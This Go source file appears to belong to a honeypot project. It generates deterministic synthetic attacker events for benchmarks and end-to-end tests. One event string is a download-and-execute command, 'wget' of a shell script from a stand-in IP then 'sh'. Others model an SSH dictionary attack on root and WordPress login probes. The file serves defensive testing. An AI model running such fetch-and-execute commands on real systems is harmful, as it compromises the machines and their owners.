// Package synth generates deterministic synthetic attacker events for
// benchmarks and end-to-end tests: a mix of shell commands, credential
// attempts and HTTP requests shaped like the ones decnet's services emit.
package synth

import (
	"encoding/base64"
	"fmt"
	"time"

	"github.com/decnet/decnet/internal/model"
)

// Base is the timestamp of event 0.
var Base = time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC)

// Event returns event i of the mix. Ids are distinct per i and stable across
// runs; one event in three is an ssh auth_attempt carrying a credential (a
// new password almost every time), so AuthEvents(n) of the first n events
// carry one.
func Event(i int) model.Event {
	ev := model.Event{
		ID:      fmt.Sprintf("00000000-0000-7000-8000-%012d", i),
		TS:      Base.Add(time.Duration(i) * time.Millisecond),
		Decky:   fmt.Sprintf("decky-%02d", i%10),
		SrcIP:   fmt.Sprintf("198.51.100.%d", i%250+1),
		SrcPort: 40000 + i%20000,
		DstPort: 22,
	}
	switch i % 3 {
	case 0:
		ev.Service, ev.EventType = "ssh", "command"
		ev.SessionID = fmt.Sprintf("s%d", i/30)
		ev.Fields = map[string]string{"command": fmt.Sprintf("cd /tmp; wget http://203.0.113.9/x%d.sh; sh x%d.sh", i%97, i%97)}
	case 1:
		// A dictionary attack: every attempt tries another password, so
		// nearly every attempt is a new credential row, the costly case.
		pw := fmt.Sprintf("pw%d", (i/3)%20000)
		ev.Service, ev.EventType = "ssh", "auth_attempt"
		ev.Fields = map[string]string{"username": "root", "principal": "root", "secret_kind": "plaintext",
			"secret_printable": pw, "secret_b64": base64.StdEncoding.EncodeToString([]byte(pw)), "outcome": model.OutcomeFailure}
	default:
		ev.Service, ev.EventType, ev.DstPort = "http", "request", 80
		ev.Fields = map[string]string{"method": "GET", "path": fmt.Sprintf("/wp-login.php?p=%d", i%1000),
			"headers": `{"Host":"decky","User-Agent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64)","Accept":"*/*","X-Forwarded-For":"8.8.4.4"}`}
	}
	return ev
}

// AuthEvents is how many of the first n events carry a credential.
func AuthEvents(n int) int {
	return (n + 1) / 3
}
